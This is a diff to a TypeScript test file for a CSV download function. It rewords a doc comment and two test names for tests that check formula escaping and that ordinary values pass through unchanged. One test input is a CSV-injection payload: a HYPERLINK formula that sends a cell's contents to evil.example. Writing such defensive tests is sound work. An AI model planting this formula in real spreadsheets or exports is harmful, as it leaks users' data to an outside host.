@@ -3,7 +3,7 @@ import { downloadCsv } from './download.ts'
 
 afterEach(() => vi.restoreAllMocks())
 
-/** What a person gets who saves these rows. */
+/** Text of the file that `downloadCsv` saves. */
 async function savedCsv(...[columns, rows]: [string[], (string | number)[][]]): Promise<string> {
   const files: Blob[] = []
   vi.spyOn(URL, 'createObjectURL').mockImplementation((file) => {
@@ -16,7 +16,7 @@ async function savedCsv(...[columns, rows]: [string[], (string | number)[][]]): 
   return (await files[0]?.text()) ?? ''
 }
 
-test('nothing in a saved file runs as a formula, in however many lines it is written', async () => {
+test('escapes formulas, also in cells of several lines', async () => {
   const formula = '=HYPERLINK("https://evil.example/?x="&A2,"Click")\nsecond line'
   const text = await savedCsv(
     ['Ticket', '=Column'],
@@ -33,7 +33,7 @@ test('nothing in a saved file runs as a formula, in however many lines it is wri
   ])
 })
 
-test('numbers, dates and words stay as they are', async () => {
+test('leaves numbers, dates and plain texts unchanged', async () => {
   const text = await savedCsv(
     ['Minutes', 'Start', 'Services'],
     [[-5, '2026-11-23 14:36:05 UTC', 'Expense, "Travel"']],
